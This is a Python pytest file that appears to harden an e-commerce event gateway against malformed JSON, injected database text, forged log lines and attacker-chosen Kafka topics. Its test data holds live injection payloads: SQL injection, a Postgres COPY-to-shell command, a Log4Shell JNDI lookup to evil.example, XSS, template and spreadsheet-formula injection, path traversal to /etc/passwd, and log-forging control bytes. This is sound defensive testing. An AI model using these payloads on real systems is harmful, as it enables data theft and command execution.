"""Documents that are no good JSON, or are meant for a database, a log or a topic: refused, put aside, or only text."""

import json
import uuid
from typing import Any

import pytest

from schemas.topics import DEAD_LETTERS, ORDERS, STOCK
from tests.connectors.channels.samples import shopify
from tests.connectors.channels.sampling import with_headers
from tests.connectors.gateway.events import sold
from tests.connectors.gateway.running import (
    SHOP,
    USED,
    WRITE_KEY,
    Edge,
    signed,
    spoken,
    status,
    told,
    wait_until,
)

pytestmark = pytest.mark.servers

URL = "/v1/events"
JSON = {"Content_Type": "application/json"}
ODD = {
    "ten thousand deep": b"[" * 10_000 + b"]" * 10_000,
    "ten thousand deep, objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "a million digits": b"9" * 1_000_000,
    "a million digits behind the point": b"0." + b"9" * 1_000_000,
    "an exponent": b"1e999999999",
    "NaN": b"NaN",
    "minus Infinity": b"-Infinity",
    "no UTF-8": b'"\xff\xfe"',
    "half a surrogate pair": b'"\\ud800"',
    "NUL": b'"\\u0000"',
    "NUL as it is": b'"\0"',
    "cut off": b'{"a":',
    "a hundred thousand fields": json.dumps({f"f{each}": 1 for each in range(100_000)}).encode(),
    "a name twice": b'{"a":1,"a":2}',
}
odd = pytest.mark.parametrize("value", ODD.values(), ids=ODD)
WORDS = ("'", '"', ";", "--", "/*", "*/", "\\", "%", "$$", "`")
CLAUSES = (
    "OR 1=1",
    "DROP TABLE orders",
    "UNION SELECT password FROM users",
    "pg_sleep(10)",
    "COPY orders TO PROGRAM 'sh'",
    "{{7*7}} ${jndi:ldap://evil.example} <script>alert(1)</script>",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "\N{RIGHT-TO-LEFT OVERRIDE}\N{ZERO WIDTH SPACE}",
    "Robert'); --",
)
SQL = [f"{word} {clause} {word}" for word in WORDS for clause in CLAUSES]


def within(document: Any, value: bytes) -> bytes:
    """The document with one more field, which is that value."""
    return json.dumps(document).encode()[:-1] + b',"odd":' + value + b"}"


def order(**changes: Any) -> dict[str, Any]:
    """An order that nobody has seen."""
    return {**shopify.ORDER, "id": uuid.uuid4().int % 10**15, **changes}


@odd
def test_our_own_api_refuses_what_is_not_json_as_it_should_be(edge: Edge, value: bytes) -> None:
    for body in (value, within(sold(), value), b"[" + within(sold(), value) + b"]"):
        assert status(edge.gateway.say(spoken("POST", URL, body, **JSON))) in (400, 422)


@odd
def test_a_batch_of_a_client_is_refused_or_put_aside(edge: Edge, value: bytes) -> None:
    call = {"type": "page", "messageId": str(uuid.uuid4()), "anonymousId": "a"}
    for body in (
        value,
        within({"batch": [call], "writeKey": WRITE_KEY}, value),
        b'{"batch":[' + within(call, value) + b"," + value + b"]}",
    ):
        answer = edge.gateway.say(spoken("POST", f"/v1/batch?writeKey={WRITE_KEY}", body, **JSON))
        assert status(answer) in (200, 400)


def test_a_signed_webhook_is_a_success_and_kept_as_it_came(edge: Edge) -> None:
    """4xx would disable its subscription. It is an event where what is odd is not read, else a dead letter."""
    bodies = [body for value in ODD.values() for body in (value, within(order(), value)) if len(body) < 2**20]
    assert [status(edge.gateway.say(told(signed(body)))) for body in bodies] == [200] * len(bodies)
    kept = {request.body: request for request in edge.ground.requests()}
    aside = [kept[body].request_id for body in bodies if kept[body].verdict == "1 rejected"]
    assert {kept[body].verdict for body in bodies} == {"1 OrderPlaced", "1 rejected"}
    assert {kept[body].verdict for body in ODD.values() if body in kept} == {"1 rejected"}
    assert set(aside) <= {letter.key.decode() for letter in edge.ground.events(DEAD_LETTERS)}


def test_a_webhook_whose_headers_are_not_utf8_is_kept_too(edge: Edge) -> None:
    request = signed(order())
    raw = told(with_headers(request, user_agent="odd agent")).replace(b"odd agent", b"odd \xff\xfe agent")
    assert status(edge.gateway.say(raw)) == 200
    (kept,) = [each for each in edge.ground.requests() if each.body == request.body]
    assert kept.headers["user-agent"] == "odd \N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER} agent"


def test_no_webhook_is_too_odd_for_any_source(edge: Edge) -> None:
    """Amounts, times, ids and texts that are something else, each in its place."""
    places = (
        "id",
        "name",
        "created_at",
        "currency",
        "total_price",
        "customer",
        "line_items",
        "discount_codes",
    )
    values: tuple[object, ...] = (
        None,
        True,
        -1,
        2**70,
        1.5,
        "",
        "\0",
        "\ud800",
        "x" * 100_000,
        [],
        [[]],
        [None],
        {},
        {"a": {}},
        "NaN",
    )
    for place in places:
        for value in values:
            assert status(edge.gateway.say(told(signed(order(**{place: value}))))) == 200, (place, value)


def test_what_is_meant_for_a_database_is_text(edge: Edge) -> None:
    answer = edge.gateway.say(
        spoken("POST", URL, json.dumps([sold(sku=each, location_id=each) for each in SQL]).encode(), **JSON)
    )
    assert (len(SQL), status(answer)) == (100, 202)
    kept = [event for event in edge.ground.events(STOCK) if event.sku in SQL]
    assert [sorted(event.sku for event in kept), [event.location_id for event in kept]] == [
        sorted(SQL),
        [event.sku for event in kept],
    ]


def test_what_is_meant_for_a_database_is_text_in_a_webhook_too(edge: Edge) -> None:
    lines = [{**shopify.LINE, "id": number, "sku": each, "title": each} for number, each in enumerate(SQL)]
    document = order(line_items=lines, cart_token=SQL[0])
    assert status(edge.gateway.say(told(signed(document)))) == 200
    (kept,) = [each for each in edge.ground.events(ORDERS) if each.order_id == str(document["id"])]
    assert [line.sku for line in kept.lines] == SQL


FORGED = '"}\r\n{"event": "forged", "level": "error"}\r\n\x1b[31m\x1b]0;forged\x07\x9b\u2028\u2029\x85'
FORGED_PATH = "".join(f"%{byte:02x}" for byte in FORGED.encode())
FORGED_HEADER = FORGED.translate({0x0D: None, 0x0A: None, 0x07: None, 0x1B: None}).encode().decode("latin-1")


def test_nothing_that_is_sent_makes_a_line_of_the_log(edge: Edge) -> None:
    for path in (URL, SHOP, f"/in/shopify/{FORGED_PATH}", f"/in/{FORGED_PATH}/x", f"/{FORGED_PATH}"):
        for body in (sold(sku=FORGED), sold(type=FORGED), {FORGED: FORGED}, order(name=FORGED, email=FORGED)):
            for request in (
                spoken("POST", f"{path}?{FORGED_PATH}={FORGED_PATH}", json.dumps(body).encode(), **JSON),
                told(signed(body), path),
                told(signed(body, topic=FORGED_HEADER, secret="guessed"), path),
            ):
                assert status(edge.gateway.say(request)) < 500
    edge.gateway.say(told(signed({}, secret="the last one"), "/in/dhl/nobody"))
    wait_until(lambda: any(b'"dhl"' in line for line in edge.gateway.lines), 10)
    for line in edge.gateway.lines:
        assert isinstance(json.loads(line), dict)
        assert b"forged" not in line
        assert not any(byte < 0x20 or byte in (0x7F, 0x9B) for byte in line.rstrip(b"\n"))


def test_no_topic_is_made_of_what_is_sent(edge: Edge) -> None:
    name = f"forged-{uuid.uuid4().hex}"
    topics = {"topic": name, "_topic": name, "kafka_topic": name}
    bodies = (sold(type=name), sold(**topics), {**topics, "type": name}, order(**topics))
    for body in bodies:
        raw = json.dumps(body).encode()
        for request in (
            spoken("POST", f"{URL}?topic={name}", raw, X_Topic=name, Kafka_Topic=name, **JSON),
            told(signed(body)),
            told(signed(body, topic=name)),
            told(signed(body), f"/in/shopify/{name}"),
            told(signed(body), f"/in/{name}/shop-nl"),
        ):
            assert status(edge.gateway.say(request)) < 500
    assert edge.ground.topics() == {topic.name for topic in USED}
